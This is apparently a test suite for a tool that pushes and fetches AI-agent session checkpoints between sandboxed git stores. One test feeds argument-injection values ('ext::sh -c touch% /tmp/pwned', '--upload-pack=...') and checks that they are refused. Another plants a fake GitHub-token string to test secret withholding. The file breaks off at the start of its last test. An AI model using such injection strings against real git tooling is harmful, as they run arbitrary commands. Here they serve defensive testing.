// Checkpoints that travel: share init, push, fetch, bundle and unpush between two stores (two HOMEs,
// two workspace paths: two machines), over file://, git daemon and smart HTTP on 127.0.0.1. Every
// sandbox's git config sends github.com to a closed port: no test can leave the machine.
import test from 'ava';
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  appendFileSync,
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import {
  ckpt,
  ckptError,
  ckptJson,
  hookEvent,
  libPath,
  sandbox,
  sh,
  storeDir,
  treeState,
  waitFor,
  workspaceState,
  write,
} from './helpers.mjs';

/** A machine: its own HOME, store and workspace, and a git config with a tripwire for any real host. */
function machine() {
  const box = sandbox();
  appendFileSync(path.join(box.home, '.gitconfig'), '[url "http://127.0.0.1:9/"]\n\tinsteadOf = https://github.com/\n');
  return box;
}

/** A bare repository beside the machines, as a remote. */
function bareRemote(box, name = 'remote.git') {
  const dir = path.join(box.base, name);
  spawnSync('git', ['init', '-q', '--bare', dir], { env: box.env });
  return dir;
}

const git = (box, dir, args) => {
  const r = spawnSync('git', ['--git-dir', dir, ...args], { env: box.env, encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`git ${args.join(' ')}: ${r.stderr}`);
  return r.stdout;
};

/** Checkpoints of an agent session, one per turn from turn `from`, each changing the workspace as `edits[i]` says. */
async function session(box, id, edits, from = 1) {
  const made = [];
  for (const [i, edit] of edits.entries()) {
    edit();
    made.push(await ckptJson(box, ['snapshot', '--kind', 'post', '--session', id, '--turn', String(from + i), '--step', '1']));
  }
  return made;
}

/** A workspace with a file, an executable and a symlink, then a three-turn session. */
async function sessionOnA(a) {
  write(a, 'a.txt', 'one\n');
  write(a, 'bin/run.sh', '#!/bin/sh\necho one\n', 0o755);
  symlinkSync('a.txt', path.join(a.ws, 'link'));
  await ckptJson(a, ['snapshot', '-m', 'before the session']);
  return session(a, 'sess-1', [
    () => write(a, 'a.txt', 'two\n'),
    () => {
      write(a, 'bin/run.sh', '#!/bin/sh\necho three\n');
      chmodSync(path.join(a.ws, 'bin/run.sh'), 0o700);
      rmSync(path.join(a.ws, 'link'));
      symlinkSync('bin/run.sh', path.join(a.ws, 'link'));
    },
    () => write(a, 'new.txt', 'three\n'),
  ]);
}

test('a session pushed from one store and fetched into another: log shows its origin, restore and revert are byte-exact, undo works', async (t) => {
  const a = machine();
  const b = machine();
  const remote = bareRemote(a);
  await sessionOnA(a);
  // What A's workspace was before each turn: restore turn:N on B must give exactly that.
  const aLog = await ckptJson(a, ['log']);
  t.is(aLog.length, 4);

  const init = await ckptJson(a, ['share', 'init', '--remote', `file://${remote}`]);
  t.like(init, { remote: 'ckpt', joined: false, sameAsOrigin: false });
  t.is(git(a, remote, ['for-each-ref']).trim(), '', 'nothing is pushed by share init');
  const dry = await ckptJson(a, ['push', '--dry-run']);
  t.like(dry.sessions[0], { session: 'sess-1', status: 'would-push', fresh: 3, withheld: null });
  t.is(git(a, remote, ['for-each-ref']).trim(), '', 'nothing is pushed by a dry run');
  const pushed = await ckptJson(a, ['push']);
  t.like(pushed.sessions[0], { session: 'sess-1', status: 'pushed', fresh: 3, checkpoints: 3 });
  const refs = git(a, remote, ['for-each-ref', '--format=%(refname)']).trim().split('\n');
  t.deepEqual(refs, [`refs/ckpt/v1/${init.ws}/sess-1/${init.writer}`]);
  // A default clone shows none of it: no branch, no tag.
  const clone = path.join(a.base, 'clone');
  spawnSync('git', ['clone', '-q', remote, clone], { env: a.env });
  t.is(spawnSync('git', ['-C', clone, 'for-each-ref'], { env: a.env, encoding: 'utf8' }).stdout.trim(), '');

  // Pushing twice is a no-op: same tip, nothing sent.
  const again = await ckptJson(a, ['push']);
  t.like(again.sessions[0], { status: 'up-to-date', tip: pushed.sessions[0].tip, fresh: 0 });

  // Machine B: another HOME, another workspace path; its share init joins the workspace id on the remote.
  write(b, 'unrelated.txt', 'b was here\n');
  const joined = await ckptJson(b, ['share', 'init', '--remote', remote]);
  t.like(joined, { ws: init.ws, joined: true });
  t.not(joined.writer, init.writer);
  const listed = await ckptJson(b, ['fetch', '--list']);
  t.like(listed.listed, [{ session: 'sess-1', writer: init.writer, mine: false, thisWorkspace: true }]);
  const fetched = await ckptJson(b, ['fetch']);
  // The session's three checkpoints, and its base: the workspace before it, a checkpoint of no session.
  t.like(fetched.fetched, [{ session: 'sess-1', writer: init.writer, added: 4, total: 4 }]);
  const again2 = await ckptJson(b, ['fetch']);
  t.is(again2.fetched[0].added, 0, 'a second fetch adds nothing');

  const bLog = await ckptJson(b, ['log', '--session', 'sess-1']);
  t.is(bLog.length, 3);
  const sources = aLog.filter((r) => r.session === 'sess-1').map((r) => r.id);
  t.deepEqual(
    bLog.map((r) => r.origin?.source),
    sources,
  );
  t.true(bLog.every((r) => r.origin.remote === 'ckpt' && r.origin.writer === init.writer));
  t.deepEqual(
    bLog.map((r) => r.turn),
    [3, 2, 1],
  );
  const text = (await ckpt(b, ['log'])).stdout;
  t.regex(text, /\[from ckpt\/[0-9a-f]{6}\]/);
  t.regex(text, /session sess-1 from ckpt \(writer [0-9a-f]{12}\)/);
  // A's ids name the same checkpoints on B.
  t.is((await ckptJson(b, ['show', sources[1].slice(0, 10), '--stat'])).id, bLog[1].id);
  const shown = await ckpt(b, ['show', bLog[1].id]);
  t.regex(shown.stdout, new RegExp(`Origin: +fetched from ckpt, writer ${init.writer}.*${sources[1]}`));
  t.regex(shown.stdout, /bin\/run\.sh/);
  t.regex(shown.stdout, /link/);

  // restore turn:N@sess-1 on B is A's workspace before turn N (the session's base for turn 1), byte for byte;
  // B's own files stay: what another store lacks says nothing of this workspace (principle 4), --delete-new or not.
  const without = (state, ...names) =>
    state
      .split('\n')
      .filter((line) => !names.some((n) => line.startsWith(`F ${n} `)))
      .join('\n');
  for (const [n, expected] of [
    [2, aWorkspaceAt(a, aLog, 'turn 1')],
    [1, aWorkspaceAt(a, aLog, 'base')],
  ]) {
    const r = await ckpt(b, ['restore', `turn:${n}@sess-1`, '--delete-new', '--json']);
    t.is(r.code, 0, r.stderr);
    t.is(without(workspaceState(b), 'unrelated.txt'), expected, `before turn ${n}`);
    t.regex(
      JSON.parse(r.stdout).files.find((f) => f.path === 'unrelated.txt').reason,
      /came from another store, which never saw this workspace/,
    );
  }
  t.is(readFileSync(path.join(b.ws, 'unrelated.txt'), 'utf8'), 'b was here\n');
  const latestA = await ckpt(b, ['restore', bLog[0].id, '--delete-new']);
  t.is(latestA.code, 0, latestA.stderr);
  t.is(without(workspaceState(b), 'unrelated.txt'), aWorkspaceAt(a, aLog, 'turn 3'));
  // revert --session takes back what the session did, three-way, on B; but a file it added is B's now, and
  // another store's history never makes a local file go: new.txt stays, said so.
  const reverted = await ckpt(b, ['revert', '--session', 'sess-1', '--json']);
  t.is(reverted.code, 0, reverted.stderr);
  t.is(without(workspaceState(b), 'unrelated.txt', 'new.txt'), aWorkspaceAt(a, aLog, 'base'));
  t.regex(JSON.parse(reverted.stdout).files.find((f) => f.path === 'new.txt').reason, /came from another store/);
  const undone = await ckpt(b, ['undo']);
  t.is(undone.code, 0, undone.stderr);
  t.is(without(workspaceState(b), 'unrelated.txt'), aWorkspaceAt(a, aLog, 'turn 3'));
  // B's own chain goes on from B's own latest: a snapshot's parent is never a fetched checkpoint.
  write(b, 'b2.txt', 'b\n');
  const own = await ckptJson(b, ['snapshot']);
  t.false(bLog.some((r) => r.id === own.parent));
});

/** A's workspace as one of its checkpoints holds it, read through A's own restore into a scratch copy. */
function aWorkspaceAt(a, aLog, which) {
  const session = aLog.filter((r) => r.session === 'sess-1').reverse();
  const id = which === 'base' ? aLog.find((r) => r.session === null).id : session[Number(which.split(' ')[1]) - 1].id;
  const dir = path.join(a.base, `view-${id.slice(0, 8)}`);
  if (!existsSync(dir)) {
    mkdirSync(dir);
    const gitDir = path.join(storeDir(a), 'git');
    const env = { ...a.env, GIT_INDEX_FILE: path.join(a.base, `index-${id.slice(0, 8)}`) };
    const r = spawnSync('git', ['--git-dir', gitDir, '--work-tree', dir, 'read-tree', '-u', '--reset', id], { env });
    if (r.status !== 0) throw new Error(r.stderr.toString());
  }
  return treeState(dir, { mtime: false });
}

test('pushing one session sends no object only another reaches; after gc drops checkpoints already pushed, a push goes on from the tip', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  write(a, 'base.txt', 'base\n');
  await ckptJson(a, ['snapshot']);
  await session(a, 'sess-a', [() => write(a, 'only-a.txt', 'a secret-free line only session a wrote\n')]);
  await session(a, 'sess-b', [() => write(a, 'b.txt', 'b\n')]);
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  const r = await ckptJson(a, ['push', '--session', 'sess-b']);
  t.is(r.sessions[0].status, 'pushed');
  // Session b's base (the state before it) holds only-a.txt: what session a made is there as b's starting point,
  // but not session a's own chain, refs or commits.
  const objects = git(a, remote, ['rev-list', '--all', '--objects']);
  t.true(objects.includes(r.sessions[0].tip), 'b is there');
  t.is(git(a, remote, ['for-each-ref', '--format=%(refname)']).trim().split('\n').length, 1);
  const aCommits = ledger(a)
    .filter((x) => x.session === 'sess-a')
    .map((x) => x.id);
  for (const id of aCommits) t.false(objects.includes(id));

  // Three more turns of b, pushed; gc (ckpt.keep=1) then drops b's older checkpoints; a push still fast-forwards.
  await session(a, 'sess-b', [() => write(a, 'b.txt', 'b2\n'), () => write(a, 'b.txt', 'b3\n')], 2);
  await ckptJson(a, ['push', '--session', 'sess-b']);
  appendFileSync(path.join(a.home, '.gitconfig'), '[ckpt]\n\tkeep = 1\n');
  const gc = await ckptJson(a, ['gc']);
  const pushedIds = new Set(Object.keys(JSON.parse(readFileSync(path.join(storeDir(a), 'share.json'), 'utf8')).exports[after1(a)].sources));
  t.true(
    gc.dropped.some((d) => pushedIds.has(d.id)),
    'gc dropped a checkpoint already pushed',
  );
  await session(a, 'sess-b', [() => write(a, 'b.txt', 'b4\n')], 4);
  const after = await ckptJson(a, ['push', '--session', 'sess-b']);
  t.like(after.sessions[0], { status: 'pushed', fresh: 1 });
  t.is(git(a, remote, ['rev-list', '--count', after.sessions[0].ref]).trim(), '5', 'base and four checkpoints, one chain');
  t.is((await ckpt(a, ['fsck'])).code, 0);
});

/** The one export ref of a store's share state. */
function after1(box) {
  return Object.keys(JSON.parse(readFileSync(path.join(storeDir(box), 'share.json'), 'utf8')).exports)[0];
}

function ledger(box) {
  return readFileSync(path.join(storeDir(box), 'ledger.jsonl'), 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l));
}

test('filters fail closed: a credential withholds its checkpoint and the rest of the session, named; ignored and secret-pattern files are left out; a 60 MB file is refused before any network I/O', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  write(a, 'app.js', 'const key = process.env.API_KEY;\n');
  write(a, 'later-ignored.log', 'captured, then ignored\n');
  await ckptJson(a, ['snapshot']);
  await session(a, 's', [
    () => write(a, 'app.js', 'const key = process.env.API_KEY; // reads it, holds none\n'),
    () => write(a, 'config.js', `export const token = 'ghp_${'a1B2c3D4e5'.repeat(4)}';\n`),
    () => write(a, 'after.txt', 'after the secret\n'),
  ]);
  write(a, '.gitignore', 'later-ignored.log\n');
  await ckptJson(a, ['snapshot', '--kind', 'post', '--session', 's', '--turn', '4']);
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  const dry = await ckptJson(a, ['push', '--dry-run']);
  const s = dry.sessions[0];
  t.like(s.withheld, { path: 'config.js', line: 1, count: 3 });
  t.regex(s.withheld.rule, /GitHub token/);
  t.deepEqual(s.ignored, ['later-ignored.log']);
  t.is(s.fresh, 1, 'only the turn before the secret goes');
  const text = (await ckpt(a, ['push'])).stdout;
  t.regex(text, /withheld: 3 checkpoint\(s\) from [0-9a-f]{8} on: config\.js line 1 looks like a GitHub token/);
  t.regex(text, /left out \(ignored by \.gitignore; --include-ignored carries them\): later-ignored\.log/);
  const tip = git(a, remote, ['for-each-ref', '--format=%(objectname)']).trim();
  const pushedFiles = git(a, remote, ['ls-tree', '-r', '--name-only', tip]).trim().split('\n');
  t.deepEqual(pushedFiles, ['app.js'], 'no ignored file, no credential');
  t.false(git(a, remote, ['rev-list', '--all', '--objects']).includes('config.js'));

  // A 60 MB file: refused with the numbers, and no network I/O (the remote is a closed port).
  const big = machine();
  appendFileSync(path.join(big.home, '.gitconfig'), '[ckpt]\n\tmaxFileBytes = 100m\n');
  writeFileSync(path.join(big.ws, 'huge.bin'), Buffer.alloc(60 * 1000 * 1000, 1));
  await session(big, 'big', [() => write(big, 'x.txt', 'x\n')]);
  await ckptJson(big, ['share', 'init', '--remote', 'http://127.0.0.1:9/never.git']).catch(() => undefined);
  const refused = await ckptError(big, ['share', 'init', '--remote', 'http://127.0.0.1:9/never.git']);
  t.is(refused.code, 'remote', 'share init itself asks the remote, and says it cannot be reached');
  // With the state written as share init would, a push is refused before it reaches for the network.
  writeFileSync(
    path.join(storeDir(big), 'share.json'),
    JSON.stringify({
      v: 1,
      ws: 'aaaaaaaaaaaa',
      writer: 'bbbbbbbbbbbb',
      host: (await import('node:os')).hostname(),
      remotes: { ckpt: { url: 'http://127.0.0.1:9/never.git' } },
      default: 'ckpt',
      exports: {},
      pushed: {},
      bundled: {},
      scanned: {},
    }),
  );
  const capped = await ckptError(big, ['push']);
  t.is(capped.code, 'refused');
  t.regex(capped.message, /^huge\.bin is 60 MB, over the 50 MB a pushed file may be: nothing was sent/);
  // The refusal made no export: a second push is refused the same way, never waved through.
  const again = await ckptError(big, ['push']);
  t.is(again.code, 'refused');
  t.regex(again.message, /^huge\.bin is 60 MB/);
  t.false(
    JSON.parse(readFileSync(path.join(storeDir(big), 'share.json'), 'utf8')).exports['refs/ckpt/v1/aaaaaaaaaaaa/big/bbbbbbbbbbbb'] !==
      undefined,
  );
});

test('remote refusals each give one line and lose nothing: a hidden ref, push protection, a ref cap (re-chunked), a size limit, a copied store', async (t) => {
  const a = machine();
  write(a, 'f.txt', '0\n');
  await ckptJson(a, ['snapshot']);
  for (let i = 1; i <= 7; i++) await session(a, `s${i}`, [() => write(a, 'f.txt', `${i}\n`)]);
  const ledgerBefore = readFileSync(path.join(storeDir(a), 'ledger.jsonl'), 'utf8');

  const hidden = bareRemote(a, 'hidden.git');
  git(a, hidden, ['config', 'receive.hideRefs', 'refs/ckpt']);
  await ckptJson(a, ['share', 'init', '--remote', hidden]);
  const hiddenRun = await ckpt(a, ['push', '--session', 's1']);
  t.is(hiddenRun.code, 1);
  t.regex(hiddenRun.stdout, /rejected: the remote hides refs\/ckpt\/ and refuses writes to it/);

  const guarded = bareRemote(a, 'guarded.git');
  preReceive(
    guarded,
    'echo "remote: error: GH013: Repository rule violations found for refs/ckpt." >&2\necho "- GITHUB PUSH PROTECTION" >&2\nexit 1',
  );
  await ckptJson(a, ['share', 'init', '--remote', guarded]);
  const prot = await ckpt(a, ['push', '--session', 's2']);
  t.is(prot.code, 1);
  t.regex(prot.stdout, /rejected: the remote's push protection refused the push \(.*GH013/);

  const capped = bareRemote(a, 'capped.git');
  preReceive(
    capped,
    'n=$(wc -l)\nif [ "$n" -gt 5 ]; then echo "error: can not update more than 5 branches or tags in one push" >&2; exit 1; fi',
  );
  await ckptJson(a, ['share', 'init', '--remote', capped]);
  const chunked = await ckptJson(a, ['push', '--all']);
  t.true(chunked.sessions.filter((s) => s.status === 'pushed').length >= 7, JSON.stringify(chunked.sessions.map((s) => s.status)));
  t.true(chunked.chunks >= 3, 'the refused push, then two of at most five refs');
  t.is(git(a, capped, ['for-each-ref', '--format=%(refname)']).trim().split('\n').length, chunked.sessions.filter((s) => s.tip).length);

  const small = bareRemote(a, 'small.git');
  git(a, small, ['config', 'receive.maxInputSize', '100']);
  await ckptJson(a, ['share', 'init', '--remote', small]);
  const big = await ckpt(a, ['push', '--session', 's3']);
  t.is(big.code, 1);
  t.regex(big.stdout, /rejected: the remote refused the push as too large/);

  // Nothing was lost locally by any of them.
  t.is(readFileSync(path.join(storeDir(a), 'ledger.jsonl'), 'utf8'), ledgerBefore);
  t.is((await ckpt(a, ['fsck'])).code, 0);

  // A copied store (same workspace path, another store root: a cloned machine) pushes as the same writer:
  // the second push is no fast-forward, stops, and explains; nothing is forced.
  const shared = bareRemote(a, 'shared.git');
  await ckptJson(a, ['share', 'init', '--remote', shared]);
  await ckptJson(a, ['push', '--session', 's4']);
  const copyRoot = path.join(a.base, 'store-copy');
  cpSync(a.store, copyRoot, { recursive: true });
  const copyEnv = { GIT_CKPT_HOME: copyRoot };
  await session(a, 's4', [() => write(a, 'f.txt', 'original goes on\n')], 2);
  await ckptJson(a, ['push', '--session', 's4']);
  write(a, 'f.txt', 'the copy goes its own way\n');
  await ckptJson(a, ['snapshot', '--kind', 'post', '--session', 's4', '--turn', '2'], { env: copyEnv });
  const copied = await ckpt(a, ['push', '--session', 's4'], { env: copyEnv });
  t.is(copied.code, 1);
  t.regex(
    copied.stdout,
    /rejected: the remote's ref for this store's session has commits this store never made: a copy of this store pushed it/,
  );
  // On another host the copy is refused before anything is sent.
  const state = JSON.parse(readFileSync(path.join(copyRoot, path.basename(storeDir(a)), 'share.json'), 'utf8'));
  state.host = 'another-host';
  writeFileSync(path.join(copyRoot, path.basename(storeDir(a)), 'share.json'), JSON.stringify(state));
  const moved = await ckptError(a, ['push', '--session', 's4'], { env: copyEnv });
  t.is(moved.code, 'refused');
  t.regex(moved.message, /writer id was made on another-host.*share init/);
});

/** A host's rule, as a bare remote's pre-receive hook (a shell script's body). */
function preReceive(remote, body) {
  writeFileSync(path.join(remote, 'hooks', 'pre-receive'), `#!/bin/sh\n${body}\n`, { mode: 0o755 });
}

/** A free port on 127.0.0.1. */
function freePort() {
  return new Promise((resolve) => {
    const s = net.createServer();
    s.listen(0, '127.0.0.1', () => {
      const { port } = s.address();
      s.close(() => resolve(port));
    });
  });
}

/** `git http-backend` behind a Node server on 127.0.0.1 (smart HTTP, push enabled). */
async function httpBackend(t, box, root) {
  const server = http.createServer((req, res) => {
    const url = new URL(req.url, 'http://127.0.0.1');
    const child = spawn('git', ['http-backend'], {
      env: {
        ...box.env,
        GIT_PROJECT_ROOT: root,
        GIT_HTTP_EXPORT_ALL: '1',
        REMOTE_USER: 'tester',
        PATH_INFO: url.pathname,
        QUERY_STRING: url.search.slice(1),
        REQUEST_METHOD: req.method,
        CONTENT_TYPE: req.headers['content-type'] ?? '',
        CONTENT_LENGTH: req.headers['content-length'] ?? '',
        HTTP_CONTENT_ENCODING: req.headers['content-encoding'] ?? '',
        GIT_PROTOCOL: req.headers['git-protocol'] ?? '',
      },
    });
    req.pipe(child.stdin);
    let head = Buffer.alloc(0);
    let headerDone = false;
    child.stdout.on('data', (chunk) => {
      if (headerDone) return void res.write(chunk);
      head = Buffer.concat([head, chunk]);
      const end = head.indexOf('\r\n\r\n');
      if (end < 0) return;
      headerDone = true;
      let status = 200;
      for (const line of head.subarray(0, end).toString().split('\r\n')) {
        const [k, ...v] = line.split(':');
        if (k.toLowerCase() === 'status') status = Number.parseInt(v.join(':'), 10);
        else res.setHeader(k, v.join(':').trim());
      }
      res.writeHead(status);
      res.write(head.subarray(end + 4));
    });
    child.stdout.on('end', () => res.end());
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.teardown(() => server.close());
  return server.address().port;
}

test('over git daemon and smart HTTP on 127.0.0.1: push from one store, fetch into another', async (t) => {
  const a = machine();
  const b = machine();
  const root = path.join(a.base, 'served');
  mkdirSync(root);
  bareRemote(a, 'served/d.git');
  const h = bareRemote(a, 'served/h.git');
  git(a, h, ['config', 'http.receivepack', 'true']);
  await session(a, 'net', [() => write(a, 'n.txt', 'over the network\n')]);

  const port = await freePort();
  const daemon = spawn(
    'git',
    ['daemon', '--listen=127.0.0.1', `--port=${port}`, '--reuseaddr', `--base-path=${root}`, '--export-all', '--enable=receive-pack', root],
    { env: a.env, stdio: 'ignore' },
  );
  t.teardown(() => daemon.kill());
  const daemonUrl = `git://127.0.0.1:${port}/d.git`;
  t.true(await waitFor(() => spawnSync('git', ['ls-remote', daemonUrl], { env: a.env }).status === 0, 10_000), 'git daemon answers');
  const httpUrl = `http://127.0.0.1:${await httpBackend(t, a, root)}/h.git`;
  for (const url of [daemonUrl, httpUrl]) {
    await ckptJson(a, ['share', 'init', '--remote', url]);
    const pushed = await ckptJson(a, ['push']);
    t.is(pushed.sessions[0].status, 'pushed', url);
    await ckptJson(b, ['share', 'init', '--remote', url]);
    const fetched = await ckptJson(b, ['fetch']);
    // The same export over either transport: the second fetch finds it known already.
    t.like(fetched.fetched, [{ session: 'net', total: 1, added: url === daemonUrl ? 1 : 0 }], url);
  }
  // The session's first checkpoint had no parent on A (nothing before it): its checkpoint itself restores.
  const [first] = await ckptJson(b, ['log', '--session', 'net']);
  const restored = await ckpt(b, ['restore', first.id, '--dry-run']);
  t.is(restored.code, 0, restored.stderr);
});

test('bundles: full then incremental; verify in an empty store names the missing prerequisite; import, then a byte-exact restore', async (t) => {
  const a = machine();
  const b = machine();
  write(a, 'x.txt', 'x\n');
  write(a, 'run.sh', '#!/bin/sh\n', 0o755);
  await ckptJson(a, ['snapshot']);
  await session(a, 'bun', [() => write(a, 'x.txt', 'x1\n')]);
  const full = path.join(a.base, 'full.bundle');
  const first = await ckptJson(a, ['bundle', 'create', full, '--session', 'bun']);
  t.is(first.refs, 1);
  t.deepEqual(first.prerequisites, []);
  await session(a, 'bun', [() => write(a, 'x.txt', 'x2\n'), () => write(a, 'y.txt', 'y\n')], 2);
  const inc = path.join(a.base, 'inc.bundle');
  const second = await ckptJson(a, ['bundle', 'create', inc, '--session', 'bun', '--incremental']);
  t.is(second.prerequisites.length, 1);
  const none = await ckptError(a, ['bundle', 'create', path.join(a.base, 'none.bundle'), '--session', 'bun', '--incremental']);
  t.is(none.code, 'nothing');

  // B has nothing: the incremental bundle names what it lacks, and import refuses it.
  write(b, 'b.txt', 'b\n');
  await ckptJson(b, ['snapshot']);
  const lacking = await ckpt(b, ['bundle', 'verify', inc]);
  t.is(lacking.code, 1);
  t.regex(lacking.stdout, new RegExp(`lacks 1 prerequisite\\(s\\): ${second.prerequisites[0].slice(0, 8)}`));
  const refused = await ckptError(b, ['bundle', 'import', inc]);
  t.is(refused.code, 'remote');
  t.regex(refused.message, /builds on 1 commit this store lacks .*import the bundle made before it first/);
  const imported = await ckptJson(b, ['bundle', 'import', full]);
  t.is(imported.fetched[0].added, 2, 'the checkpoint and its base');
  t.true((await ckpt(b, ['bundle', 'verify', inc])).stdout.includes('ok'));
  const more = await ckptJson(b, ['bundle', 'import', inc]);
  t.is(more.fetched[0].added, 2);
  const log = await ckptJson(b, ['log', '--session', 'bun']);
  t.is(log.length, 3);
  t.true(log.every((r) => r.origin.remote === 'bundle'));
  const r = await ckpt(b, ['restore', log[0].id, '--delete-new']);
  t.is(r.code, 0, r.stderr);
  // B's own b.txt stays: an imported checkpoint never saw this workspace (principle 4).
  t.is(
    workspaceState(b)
      .split('\n')
      .filter((line) => !line.startsWith('F b.txt '))
      .join('\n'),
    workspaceState(a),
  );
  t.true(existsSync(path.join(b.ws, 'b.txt')));
});

test('unpush deletes the ref with a lease and says deleting is not purging; bad input is one line and changes nothing', async (t) => {
  const a = machine();
  const remote = bareRemote(a);
  const origin = bareRemote(a, 'origin.git');
  await session(a, 'gone', [() => write(a, 'g.txt', 'g\n')]);
  sh(a, ['remote', 'add', 'origin', origin]);
  const before = treeState(path.join(a.ws, '.git'));
  for (const [args, code, message] of [
    [['push'], 'nothing', /sharing is off for this workspace/],
    [['share', 'init', '--remote', 'ext::sh -c touch% /tmp/pwned'], 'usage', /not a remote URL/],
    [['share', 'init', '--remote', '--upload-pack=touch /tmp/pwned'], 'usage', /not a remote name or URL/],
    [['share', 'init', '--remote', 'nosuchremote'], 'usage', /your repository has no remote named nosuchremote/],
    [['share', 'init', '--remote', remote, '--ws', '../x'], 'usage', /--ws takes a shared workspace id/],
    [['share', 'init', '--remote', '.'], 'refused', /is this workspace or its own repository/],
    [['share', 'init', '--remote', `file://${a.ws}/.git`], 'refused', /is this workspace or its own repository/],
    [['share', 'frobnicate'], 'usage', /unknown share action/],
    [['bundle', 'explode', 'x'], 'usage', /unknown bundle action/],
  ]) {
    const r = await ckptError(a, args).catch((e) => ({ code: 'threw', message: e.message }));
    t.is(r.code, code, args.join(' '));
    t.regex(r.message, message, args.join(' '));
  }
  t.false(existsSync('/tmp/pwned'));
  await ckptJson(a, ['share', 'init', '--remote', remote]);
  // A tampered share state is refused, its ids never reach git.
  const file = path.join(storeDir(a), 'share.json');
  const saved = readFileSync(file, 'utf8');
  writeFileSync(file, saved.replace(/"writer": "[0-9a-f]+"/, '"writer": "--upload-pack=x"'));
  const tampered = await ckptError(a, ['push']);
  t.is(tampered.code, 'store');
  t.regex(tampered.message, /share\.json cannot be used \(bad workspace or writer id\)/);
  writeFileSync(file, saved);
  // The user's origin: refused without --yes, which says what it means.
  const toOrigin = await ckptError(a, ['share', 'init', '--remote', 'origin']);
  t.is(toOrigin.code, 'refused');
  t.regex(toOrigin.message, /is your origin: everyone who can read it could fetch the checkpoints/);
  const yes = await ckpt(a, ['share', 'init', '--remote', 'origin', '--yes']);
  t.regex(yes.stdout, /warning: this is your origin/);
  await ckptJson(a, ['share', 'init', '--remote', remote]);

  await ckptJson(a, ['push']);
  t.is(git(a, remote, ['for-each-ref']).trim().split('\n').length, 1);
  const un = await ckpt(a, ['unpush', '--session', 'gone']);
  t.is(un.code, 0, un.stderr);
  t.regex(un.stdout, /deleting is not purging/);
  t.is(git(a, remote, ['for-each-ref']).trim(), '');
  const twice = await ckptError(a, ['unpush', '--session', 'gone']);
  t.is(twice.code, 'nothing');
  // An unpushed session stays off the remote through push --all; named, it goes again.
  t.deepEqual(
    (await ckptJson(a, ['push', '--all'])).sessions.map((x) => x.session),
    [],
  );
  t.is(git(a, remote, ['for-each-ref']).trim(), '');
  await ckptJson(a, ['push', '--session', 'gone']);
  t.is(git(a, remote, ['for-each-ref']).trim().split('\n').length, 1);
  // After forget took the session out of the ledger, its ref is still found through what this store exported.
  await ckptJson(a, ['forget', '--session', 'gone']);
  const afterForget = await ckpt(a, ['unpush', '--session', 'gone']);
  t.is(afterForget.code, 0, afterForget.stderr);
  t.is(git(a, remote, ['for-each-ref']).trim(), '');
  t.is(treeState(path.join(a.ws, '.git')), before, "the user's .git is as it was");
});

/** Objects a bare repository holds (loose and packed). */
function objectCount(box, dir) {
  const out = git(box, dir, ['count-objects', '-v']);
  const n = (k) => Number(new RegExp(`^${k}: (\\d+)$`, 'm').exec(out)?.[1] ?? 0);
  return n('count') + n('in-pack');
}

test("a chain is parented on the user's commit the remote has: the push sends what the session changed, a fetch on a clone only that, and the store stands alone", async (t) => {
  const a = machine();
  for (let i = 0; i < 200; i++) write(a, `src/f${i}.txt`, `file ${i}\n${'x'.repeat(200 + i)}\n`);
  sh(a, ['add', '-A']);
  sh(a, ['commit', '-qm', 'the project']);
  const remote = bareRemote(a);
  // The remote has the project: the user's repository knows it from its remote-tracking refs (no network is asked).
  sh(a, ['remote', 'add', 'ckpt', remote]);
  sh(a, ['push', '-q', 'ckpt', 'HEAD:refs/heads/main']);
  sh(a, ['fetch', '-q', 'ckpt']);
  await ckptJson(a, ['snapshot']);
  await session(a, 'small', [() => write(a, 'src/f7.txt', 'changed by the agent\n')]);
  await ckptJson(a, ['share', 'init', '--remote', 'ckpt']);
  const before = objectCount(a, remote);
  const pushed = await ckptJson(a, ['push']);
  t.is(pushed.sessions[0].status, 'pushed');
  const sent = objectCount(a, remote) - before;
  // Two commits, the changed blob, and the trees above it: nothing of the 200 files the remote had.
  t.true(sent <= 6, `${sent} objects sent`);
  const tip = pushed.sessions[0].tip;
  const head = sh(a, ['rev-parse', 'HEAD']).stdout.trim();
  t.is(git(a, remote, ['rev-list', '--max-parents=0', tip]).trim(), git(a, remote, ['rev-list', '--max-parents=0', head]).trim());
  t.true(git(a, remote, ['rev-list', tip]).includes(head), "the chain's base is parented on the user's commit");
  t.is((await ckpt(a, ['fsck'])).code, 0);
  t.regex((await ckpt(a, ['fsck'])).stdout, /^0 orphan object/m, 'the export is no orphan');

  // B clones the project (their repository has its history) and fetches the session: the store takes only
  // the checkpoints from the remote, the files it needs from B's own repository, and then stands alone.
  const b = machine();
  rmSync(b.ws, { recursive: true, force: true });
  spawnSync('git', ['clone', '-q', '--no-local', remote, b.ws], { env: b.env });
  // The remote is B's origin now: sharing there needs the --yes that says what that means.
  await ckptJson(b, ['share', 'init', '--remote', 'origin', '--yes']);
  const fetched = await ckptJson(b, ['fetch']);
  t.is(fetched.fetched[0].added, 2);
  const [latest] = await ckptJson(b, ['log', '--session', 'small']);
  const restored = await ckpt(b, ['restore', latest.id]);
  t.is(restored.code, 0, restored.stderr);
  t.is(readFileSync(path.join(b.ws, 'src/f7.txt'), 'utf8'), 'changed by the agent\n');
  const shadowB = path.join(storeDir(b), 'git');
  const ls = spawnSync('git', ['--git-dir', shadowB, 'ls-tree', '-r', latest.id], { env: b.env, encoding: 'utf8' });
  t.is(ls.status, 0, 'the tree reads from the store alone');
  const blobs = ls.stdout
    .trim()
    .split('\n')
    .map((l) => l.split(/\s+/)[2]);
  const check = spawnSync('git', ['--git-dir', shadowB, 'cat-file', '--batch-check'], {
    env: b.env,
    input: `${blobs.join('\n')}\n`,
    encoding: 'utf8',
  });
  t.notRegex(check.stdout, /missing/, 'every blob is in the store itself');
  t.is((await ckpt(b, ['fsck'])).code, 0);
});

test("two writers push one session at once: both refs land, and a third store shows both in time order, each writer's as a session of its own", async (t) => {
  const a = machine();
  const c = machine();
